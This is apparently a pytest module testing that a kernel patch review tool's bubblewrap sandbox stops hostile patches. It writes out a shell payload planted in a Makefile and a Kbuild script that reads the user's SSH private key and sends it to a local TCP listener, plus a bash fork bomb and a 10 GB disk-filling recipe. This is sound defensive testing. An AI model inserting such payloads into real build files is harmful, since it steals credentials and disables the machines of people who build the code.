"""Malicious patches, built for real under the sandbox on the managed tree.

Each patch is a real `git format-patch` mail of the managed tree.  Two try,
from a Makefile's `$(shell ...)` and from a script Kbuild runs during
`prepare`, to write into $HOME, to read the file standing for the user's SSH
key and to send it to a TCP listener this test opens on 127.0.0.1: every
attempt fails, the builds are reported, the listener sees no connection and
the user's files are unchanged.  Two more hit the limits: a fork bomb and a
10 GB file written by a Makefile are stopped and reported.  Without bwrap on
PATH a build is refused in one line; with --no-sandbox it runs and says so.

One x86_64 tinyconfig (mm-off) O= directory without vmlinux serves every
test, so Kbuild's `prepare` runs once.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import git
import pytest

from kernel.apply import apply_series
from kernel.base import choose_base
from kernel.build import build_series
from kernel.matrix import load_arch, load_config
from kernel.sandbox import HOW_TO_FIX, Limits, Sandbox
from kernel.worktree import worktree
from tests.conftest import commit_edits, format_patches

pytestmark = pytest.mark.kernel
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key-but-secret\n-----END OPENSSH PRIVATE KEY-----\n"


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.connections.append(conn.recv(4096))
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def _attack(port: int, tag: str) -> str:
    """Shell that writes into $HOME, reads the key and sends it to the listener; its errors
    go to stderr, where the build log shows them."""
    return (f'echo {tag} > "$HOME/pwned-{tag}"; cat "$HOME/.ssh/id_ed25519" > "$HOME/leak-{tag}"; '
            f"python3 -c 'import os, socket; socket.create_connection((\"127.0.0.1\", {port}), 5)"
            f".sendall(open(os.environ[\"HOME\"] + \"/.ssh/id_ed25519\", \"rb\").read())' 1>&2")


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The user's home directory for reviewtool: a key, and nothing an attack may add."""
    path = tmp_path_factory.mktemp("home")
    (path / ".ssh").mkdir()
    (path / ".ssh" / "id_ed25519").write_text(KEY)
    return path


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Run directory (its build/x86_64-mm-off is the one O= dir) and stage cache of the module."""
    return tmp_path_factory.mktemp("sandbox-run")


def _reviewtool(args: list[str], home: Path, shared: Path, path: str | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "HOME": str(home), "REVIEWTOOL_CACHE": str(shared / "cache")}
    if path is not None:
        env["PATH"] = path
    return subprocess.run([sys.executable, "-m", "reviewtool", *args], capture_output=True, text=True,
                          env=env, timeout=1800)


def _build_args(mbox: Path, tree: Path, base: str, shared: Path, *extra: str) -> list[str]:
    return ["build", "--mbox", str(mbox), "--tree", str(tree), "--base", base, "--out", str(shared / "run"),
            "--arch", "x86_64", "--config", "mm-off", "--no-full-build", "--json", *extra]


@pytest.fixture(scope="module")
def attacks(kernel_tree: Path, tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> tuple[str, Path]:
    """(base, mbox) of a series: 1 a Makefile $(shell ...) attack, 2 a scripts/ attack during prepare."""
    base = git.Repo(kernel_tree).head.commit.hexsha
    edits = [
        ("mm: exfiltrate from the Makefile",
         {"mm/Makefile": ("", f"\nrt-probe := $(shell {_attack(listener.port, 'make').replace('$', '$$')})\n"),
          "mm/mremap.c": ("#include <linux/mm.h>\n", "#include <linux/mm.h>\n/* one */\n")}),
        ("scripts: exfiltrate during prepare",
         {"scripts/checksyscalls.sh": ("", f"\n{_attack(listener.port, 'prepare')}\n"),
          "mm/mmap.c": ("#include <linux/mm.h>\n", "#include <linux/mm.h>\n/* two */\n")}),
    ]
    commits = commit_edits(kernel_tree, base, edits)
    mbox = tmp_path_factory.mktemp("attacks") / "series.mbox"
    mbox.write_text(git.Git(kernel_tree).format_patch("--thread=shallow", "--stdout", f"{base}..{commits[-1]}",
                                                      strip_newline_in_stdout=False))
    return base, mbox


@pytest.fixture(scope="module")
def attack_run(kernel_tree: Path, attacks: tuple[str, Path], home: Path, shared: Path) -> tuple[subprocess.CompletedProcess, list[Path]]:
    """`reviewtool build` of the attacks (it configures and prepares the module's O= dir), and
    the files of $HOME before it."""
    base, mbox = attacks
    before = sorted(p.relative_to(home) for p in home.rglob("*"))
    return _reviewtool(_build_args(mbox, kernel_tree, base, shared), home, shared), before


def test_attacks_from_makefile_and_scripts_fail_and_are_reported(attack_run, home: Path, listener: Listener) -> None:
    run, before = attack_run
    assert run.returncode in (0, 1), run.stderr
    assert "Traceback" not in run.stderr
    data = json.loads(run.stdout)
    assert data["sandbox"] == "bubblewrap"
    (only,) = data["builds"]
    assert [(p["patch"], p["objects"]) for p in only["patches"]] == [(1, ["mm/mremap.o"]), (2, ["mm/mmap.o"])]
    assert only["patches"][0]["status"] in ("ok", "new-warnings")  # a failed $(shell ...) does not stop make
    # The script's last command, the connection, failed: so did the patch's own `make prepare`
    # (its objects are then built without it).
    prepare = only["patches"][1]["prepare"]
    assert prepare["target"] == "prepare" and prepare["status"] == "errors", prepare
    assert "ConnectionRefusedError" in prepare["log_tail"], prepare
    assert listener.connections == []
    assert (home / ".ssh" / "id_ed25519").read_text() == KEY
    after = sorted(p.relative_to(home) for p in home.rglob("*") if not p.is_relative_to(home / ".cache"))
    assert after == [p for p in before if not p.is_relative_to(".cache")]  # nothing written into $HOME
    assert not any(Path("/tmp").glob("pwned-*")) and not any(Path("/tmp").glob("leak-*"))


def test_fork_bomb_and_huge_file_are_stopped_by_the_limits(kernel_tree: Path, shared: Path, attack_run) -> None:
    base = git.Repo(kernel_tree).head.commit.hexsha
    edits = [
        ("mm: fork bomb in a recipe",
         {"mm/Makefile": ("", "\n$(obj)/mremap.o: rt-bomb\nPHONY += rt-bomb\n"
                              "rt-bomb:\n\t@bash -c 'b() { b | b & }; b; sleep 5; exit 1'\n"),
          "mm/mremap.c": ("#include <linux/mm.h>\n", "#include <linux/mm.h>\n/* bomb */\n")}),
        ("mm: a 10 GB file in a recipe",
         {"mm/Makefile": ("", "\n$(obj)/mmap.o: rt-huge\nPHONY += rt-huge\n"
                              "rt-huge:\n\tdd if=/dev/zero of=$(obj)/rt-huge.bin bs=1M count=10240\n"),
          "mm/mmap.c": ("#include <linux/mm.h>\n", "#include <linux/mm.h>\n/* huge */\n")}),
    ]
    patches = format_patches(kernel_tree, commit_edits(kernel_tree, base, edits))
    limits = Limits(file_bytes=64 << 20, procs=256)
    out = shared / "run" / "build" / "x86_64-mm-off"  # configured and prepared by attack_run
    with worktree(kernel_tree, shared / "limits-worktree", base) as work:
        applied = apply_series(work, choose_base(kernel_tree, [p.mbox for p in patches], base_ref=base), patches)
        built = build_series(work, applied, load_arch("x86_64"), load_config("mm-off"), out, full_build=False,
                             timeout_s=60, sandbox=Sandbox(limits=limits))
    bomb, huge = built.patches
    # Out of processes, the bomb's forks fail while its recipe waits 5 s (a bare `wait` returned
    # as soon as the first pipeline forked, before any fork failed) and the recipe fails (or,
    # still forking, it is killed at the time limit); either way it is reported and all gone.
    assert bomb.status in ("errors", "timeout") and bomb.duration_s < 70
    assert bomb.timed_out or "fork: retry: Resource temporarily unavailable" in bomb.log_tail, bomb.log_tail
    assert huge.status == "errors" and not huge.timed_out
    assert "rt-huge" in huge.log_tail and ("File size limit exceeded" in huge.log_tail or "153" in huge.log_tail)
    assert (out / "mm" / "rt-huge.bin").stat().st_size <= limits.file_bytes
    # The machine is usable: the bomb's processes are gone, and a fork works.
    assert subprocess.run(["true"]).returncode == 0
    assert not [p for p in Path("/proc").glob("[0-9]*/cmdline") if b"b | b &" in _read(p)]


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def test_without_bwrap_builds_are_refused_and_run_with_no_sandbox(
        kernel_tree: Path, attacks: tuple[str, Path], shared: Path, listener: Listener, tmp_path: Path,
        attack_run) -> None:
    bin_dir = tmp_path / "bin"  # PATH without bwrap: every other program of PATH
    bin_dir.mkdir()
    for directory in os.environ["PATH"].split(os.pathsep):
        for tool in os.listdir(directory) if os.path.isdir(directory) else ():
            if tool != "bwrap" and not (bin_dir / tool).exists() and shutil.which(tool) == f"{directory}/{tool}":
                (bin_dir / tool).symlink_to(f"{directory}/{tool}")
    home = tmp_path / "home"
    home.mkdir()
    base, mbox = attacks
    refused = _reviewtool(_build_args(mbox, kernel_tree, base, shared), home, shared, path=str(bin_dir))
    assert refused.returncode == 3
    (line,) = refused.stderr.strip().splitlines()
    assert line == f"reviewtool: failed: cannot sandbox the build (bwrap is not on PATH): {HOW_TO_FIX}"

    unconfined = _reviewtool(_build_args(mbox, kernel_tree, base, shared, "--no-sandbox", "--no-cache"),
                             home, shared, path=str(bin_dir))
    assert unconfined.returncode in (0, 1), unconfined.stderr
    data = json.loads(unconfined.stdout)
    assert data["sandbox"] == "none (--no-sandbox)"
    (only,) = data["builds"]
    assert [p["objects"] for p in only["patches"]] == [["mm/mremap.o"], ["mm/mmap.o"]]
    # Unconfined, both attacks reached $HOME and the listener: the sandbox is what stopped them above.
    assert (home / "pwned-make").read_text() == "make\n" and (home / "pwned-prepare").read_text() == "prepare\n"
    assert listener.connections
